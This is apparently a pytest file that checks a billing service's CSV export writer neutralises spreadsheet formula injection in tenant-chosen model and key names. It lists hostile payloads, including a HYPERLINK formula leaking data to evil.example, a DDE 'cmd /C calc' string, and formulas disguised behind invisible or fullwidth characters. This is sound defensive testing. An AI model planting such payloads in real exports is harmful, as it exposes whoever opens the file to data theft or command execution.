"""Tenant ↔ whoever opens an export: text a tenant chose (a model name, a key's name) never reaches a CSV as a
live spreadsheet formula. Every CSV the project writes (the usage API's, the records export of the API and of
the dashboard, monthly statements) goes through one writer (`billing.exports.csv.csv_text`), which leads a text
cell starting with `= + - @`, a tab or a CR with `'`, also when blanks or invisible characters (a space,
U+3000, a newline, NUL, ZWSP, BOM) come first or the sign is a fullwidth one (`＝`); numbers, and decimal
strings such as a negative cost, stay numbers. (The S3 export is JSON lines, not CSV.)"""

from __future__ import annotations

import calendar
import csv
import io
import time
import unicodedata

import httpx
import pytest

from billing.exports.csv import csv_text, records_csv, safe_cell, statement_csv
from billing.filters import Selection
from billing.ledger import Ledger
from billing.pricing import PricingTable
from billing.records import Price
from billing.statements import monthly_statement
from tests.billing.factory import usage
from tests.security.stub_served import MODEL, sign_in, stub_served

ADMIN_KEY = "csv-exports-admin-key-0123456789abcdef"
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tleading tab", "\rleading cr"]
# the same formulas behind what a spreadsheet skips or folds (issue #43, second round)
DISGUISED = [" =1+1", "\u3000=1+1", "\uff1dHYPERLINK(\"http://evil.example\")", "\n=1+1", "\x00=1+1",
             "\u200b=1+1", "\ufeff=1+1", " \u200b\ufeff@SUM(A1)", "\uff0bcmd", "\u2003-2+3",
             # more of the same classes: no-break space, soft hyphen, word joiner, a small form of `=`, ESC
             "\u00a0=1+1", "\u00ad=1+1", "\u2060@SUM(A1)", "\ufe66HYPERLINK(1)", "\x1b=1+1"]
HOSTILE += DISGUISED
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def spreadsheet_reading(cell: str) -> str:
    """The start of a cell as a spreadsheet reads it: blanks and invisible characters skipped, fullwidth folded."""
    visible = cell.lstrip("".join(c for c in map(chr, range(0x3001)) if c.isspace() or not c.isprintable()))
    visible = visible.lstrip("\u3000\u200b\ufeff")
    return unicodedata.normalize("NFKC", visible[:1]) + visible[1:]


def assert_no_live_formula(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), (cell, row)
            assert not spreadsheet_reading(cell).startswith(FORMULA_START) or _is_number(cell), (cell, row)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_starts_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value
    assert cells(csv_text([[value]])) == [["'" + value]]


@pytest.mark.parametrize("value", DISGUISED)
def test_a_formula_behind_blanks_invisible_or_fullwidth_characters_is_written_as_text(value):
    assert safe_cell(value) == "'" + value
    assert_no_live_formula(csv_text([[value]]))


def test_a_carriage_return_inside_a_cell_starts_no_row():
    text = csv_text([["ok\r=HYPERLINK(1)", 1]])
    assert cells(text) == [["ok\r=HYPERLINK(1)", "1"]]
    assert text.count("\r") == 2 and text.endswith("\r\n")  # the cell's own CR is inside quotes


@pytest.mark.parametrize("value", [-5, 0, 12, -1.5, "-1.500000", "-12", "12.5", "model", "", None, "a=b", "-",
                                   " plain", "\u3000名前", " -1.5", "\uff41=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


MARCH = calendar.timegm((2025, 3, 1, 0, 0, 0))


@pytest.fixture
async def ledger(tmp_path):
    """A real ledger (SQLite) holding one record per hostile model name, all of key "@key", in March 2025."""
    url, prices = f"sqlite:///{tmp_path / 'billing.db'}", PricingTable.static(
        {name: Price(1_000_000, 2_000_000) for name in HOSTILE})
    led = await Ledger.open(url, tmp_path / "wal", prices)
    for i, name in enumerate(HOSTILE):
        await led.record(usage(team_id="team-a", model=name, key_id="@key", time=MARCH + 86400 + i,
                               prompt_tokens=10))
    await led.close()  # shipped to the store
    led = await Ledger.open(url, tmp_path / "wal", prices)
    yield led
    await led.close()


async def test_statement_lines_name_hostile_models_as_text(ledger):
    statement = await monthly_statement(ledger.store, "team-a", "2025-03")
    rows = cells(statement_csv(statement))
    lines = [row for row in rows[1:] if row[0] not in ("of which batch", "total")]  # the two summary rows
    assert sorted(row[0] for row in lines) == sorted("'" + name for name in HOSTILE)
    assert rows[-1][0] == "total" and int(rows[-1][6]) == statement.total_micros  # numbers stay numbers
    assert_no_live_formula(statement_csv(statement))


async def test_records_export_names_hostile_models_and_keys_as_text(ledger):
    selection = Selection(MARCH, MARCH + 31 * 86400, "team-a")
    text = "".join([chunk async for chunk in records_csv(ledger.store, selection)])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(row["model"] for row in rows) == sorted("'" + name for name in HOSTILE)
    assert {row["key_id"] for row in rows} == {"'@key"}
    assert_no_live_formula(text)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    with stub_served(tmp_path_factory.mktemp("csv-exports"), ADMIN_KEY) as running:
        yield running


def test_a_formula_model_name_reaches_no_csv_of_the_server_as_a_formula(server):
    """The review's trigger: a 404 for an unknown model whose name is a formula, recorded in the ledger, then
    every CSV of the server that lists it: the admin usage API, its records export, the dashboard's export."""
    formula = HOSTILE[0]
    key = server.api_key
    refused = httpx.post(f"{server.url}/v1/chat/completions", timeout=30, headers={"authorization": f"Bearer {key}"},
                         json={"model": formula, "messages": [{"role": "user", "content": "hi"}]})
    assert refused.status_code == 404, refused.text
    assert httpx.post(f"{server.url}/v1/chat/completions", timeout=30, headers={"authorization": f"Bearer {key}"},
                      json={"model": MODEL, "messages": [{"role": "user", "content": "hi"}],
                            "max_tokens": 2}).status_code == 200
    admin = {"authorization": f"Bearer {ADMIN_KEY}"}
    deadline = time.monotonic() + 60
    while True:  # the ledger ships its log to the store in the background
        by_model = httpx.get(f"{server.url}/admin/usage", params={"group_by": "model", "format": "csv"},
                             headers=admin, timeout=30)
        assert by_model.status_code == 200, by_model.text
        if len(cells(by_model.text)) >= 3 or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert {row[0] for row in cells(by_model.text)[1:]} == {"'" + formula, MODEL}
    assert_no_live_formula(by_model.text)
    records = httpx.get(f"{server.url}/admin/usage/records", params={"format": "csv"}, headers=admin, timeout=30)
    assert "'" + formula in {row["model"] for row in csv.DictReader(io.StringIO(records.text))}
    assert_no_live_formula(records.text)
    with sign_in(server.url, key) as dashboard:
        exported = dashboard.get("/dashboard/export.csv")
        assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
        assert "'" + formula in {row["model"] for row in csv.DictReader(io.StringIO(exported.text))}
        assert_no_live_formula(exported.text)
